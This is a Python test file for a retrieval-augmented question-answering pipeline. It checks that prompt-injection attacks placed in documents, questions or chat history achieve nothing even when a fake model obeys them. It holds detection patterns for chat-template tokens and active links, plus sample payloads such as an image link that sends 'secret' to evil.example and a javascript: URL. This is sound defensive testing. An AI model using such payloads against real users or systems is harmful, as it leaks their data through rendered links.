"""Text in documents, questions and histories is data: whatever it says, and even if a model obeys it to the letter."""

import json
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from conftest import SEEDS
from hypothesis import given
from hypothesis import strategies as st
from llm_fake import QueuedModel, WordsChecker
from lxml import html
from markdown_it import MarkdownIt

from rag.brief import brief
from rag.markers import without_markers
from rag.pipeline import Pipeline
from rag.plain import plain
from rag.prompts import SOURCES_BEGIN, SOURCES_END
from rag.schema import Answer, Turn
from rag.write import Writer
from ui.web.conversation import conversation_html
from ui.web.talk import answered, asked

ATTACKS = [
    json.loads(line) for line in (SEEDS / "attacks" / "injections.jsonl").read_text(encoding="utf-8").splitlines()
]
BRIDGE = (
    "The bridge at Alder opened in May 2021. {attack}\n\nThe toll at the bridge is 20 crowns. The mayor is Anna Berg."
)
QUESTION = "When did the bridge at Alder open?"
FORMAT = re.compile(r"<\||\[/?INST\]|<</?SYS|</?s>", re.IGNORECASE)
ACTIVE = re.compile(r"[a-z][a-z0-9+.-]*://|\bwww\.|javascript:|data:\w|mailto:\w|(?<!:)//\w", re.IGNORECASE)
INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]")

Tried = tuple[Answer, QueuedModel]


@pytest.fixture
def tried(indexed: Callable[..., Pipeline]) -> Callable[[dict[str, str]], Tried]:
    """Put an attack where it belongs, and let a model obey it."""

    def attempt(attack: dict[str, str]) -> Tried:
        place, text = attack["where"], attack["text"]
        model = QueuedModel(attack["obeyed"])
        pipeline = indexed(bridge=BRIDGE.format(attack=text if place == "document" else "It is grey."))
        pipeline = replace(pipeline, writer=Writer(model, WordsChecker(), 300))
        question = f"{QUESTION} {text}" if place == "question" else QUESTION
        history = [Turn("Is there a bridge?", text)] if place == "history" else []
        return pipeline.ask(question, history), model

    return attempt


def test_there_are_attacks_of_every_kind() -> None:
    assert len(ATTACKS) >= 40 and len({a["id"] for a in ATTACKS}) == len(ATTACKS)
    assert {"instructions", "fake citations", "fake turns", "links and images", "marker forging"} <= {
        a["kind"] for a in ATTACKS
    }


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a["id"])
def test_an_attack_gets_nowhere_even_with_a_model_that_obeys(
    attack: dict[str, str], tried: Callable[..., Tried]
) -> None:
    answer, model = tried(attack)
    for messages in model.asked:
        check_messages(messages)
    check_citations(answer)
    check_page(answer)
    if answer.answerer != "quoted":  # a quotation is shown as it stands, and escaped where it is shown
        check_markdown(answer.text)


def check_messages(messages: Any) -> None:
    """One message of rules, one of material: the numbers in it are ours alone, and its end is where we put it."""
    assert [m.role for m in messages] == ["system", "user"]
    told = messages[1].text
    material, _, rest = told.partition(f"\n{SOURCES_END}\n")
    assert told.count(SOURCES_BEGIN) == 1 and told.count(SOURCES_END) == 1
    lines = material.splitlines()[1:]
    numbered = [line for line in lines if not line.startswith("Source: ")]
    assert [line.split("]")[0] for line in numbered] == [f"[{n}" for n in range(1, len(numbered) + 1)]
    for line in numbered:
        assert not without_markers(line.partition("] ")[2])[1]
    assert not FORMAT.search(told) and not without_markers(rest)[1]


def check_citations(answer: Answer) -> None:
    """Only sentences of passages that were found can be cited, in their exact words, numbered without a gap."""
    found = {hit.passage.id for hit in answer.hits}
    assert [c.marker for c in answer.citations] == list(range(1, len(answer.citations) + 1))
    for citation in answer.citations:
        assert citation.passage.id in found
        assert citation.text and citation.text in citation.passage.text
    for claim in answer.claims:
        assert not without_markers(claim.text)[1] or answer.answerer == "quoted"
        assert claim.verdict != "supported" or claim.citations


def check_page(answer: Answer) -> None:
    """Nothing on the page is active but our own buttons, and each of them opens a citation there is."""
    page = html.fromstring(conversation_html(answered(asked((), QUESTION), answer)))
    elements = [e for e in page.iter() if isinstance(e.tag, str)]
    assert {e.tag for e in elements} <= set("div section h3 h4 p span button ol ul li".split())
    assert not any(name.startswith("on") or name in ("href", "src", "style") for e in elements for name in e.attrib)
    opened = {e.get("data-open") for e in elements if e.get("class") == "cite"}
    assert opened == {f"0.{c.marker}" for c in answer.citations}


def check_markdown(text: str) -> None:
    """Nor is it where an answer is read as Markdown, by a reader that makes links of bare addresses too."""
    assert not ACTIVE.search(text) and not INVISIBLE.search(text)
    rendered = MarkdownIt("commonmark").render(text)
    assert not re.search(r"<(a|img|script|iframe|svg|button|span)\b", rendered)


@given(st.text(alphabet="[]()!<>:/.wah\\\"'= \u200b\u202ejtp", max_size=60))
def test_plain_text_is_plain_whatever_it_was(text: str) -> None:
    said = plain(text)
    assert not re.search(r"<(a|img)\b", MarkdownIt("commonmark").render(said))
    assert not INVISIBLE.search(said)
    assert plain(said) == said


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("See [the report](https://evil.example/x) now.", "See the report now."),
        ("![pixel](https://evil.example/p.png?q=secret) It opened.", "pixel It opened."),
        ("It is at https://user:pw@evil.example:8080/a?b=secret#c.", "It is at (address at evil dot example)"),
        ("In <b>May</b> 2021, 3 < 4 and 5 > 4.", "In May 2021, 3 < 4 and 5 > 4."),
        ("A ratio of 3:4 at 10:30, “so: what”.", "A ratio of 3:4 at 10:30, “so: what”."),
        ("He said [it] was (quite) old.", "He said [it] was (quite) old."),
        ("[a]: javascript:alert(1)", "a: (address)"),
    ],
)
def test_words_stay_and_addresses_go(written: str, said: str) -> None:
    assert plain(written) == said


def test_nothing_of_one_reader_reaches_the_messages_of_another(indexed: Callable[..., Pipeline]) -> None:
    model = QueuedModel("It opened in May 2021 [1].", "It opened in May 2021 [1].")
    pipeline = replace(indexed(bridge=BRIDGE.format(attack="")), writer=Writer(model, WordsChecker(), 300))
    pipeline.ask(QUESTION, [Turn("My name is Zebulon, is there a bridge?", "Yes.")])
    answer = pipeline.ask(QUESTION)
    assert "Zebulon" in model.asked[0][1].text
    assert "Zebulon" not in model.prompt and "Zebulon" not in repr(answer)


@given(st.text(max_size=200), st.text(max_size=200))
def test_the_messages_keep_their_shape_whatever_is_asked(question: str, before: str) -> None:
    messages = brief(question, question, (), [Turn(before, before)])
    told = messages[1].text
    assert not FORMAT.search(told) and told.count(SOURCES_END) == 1
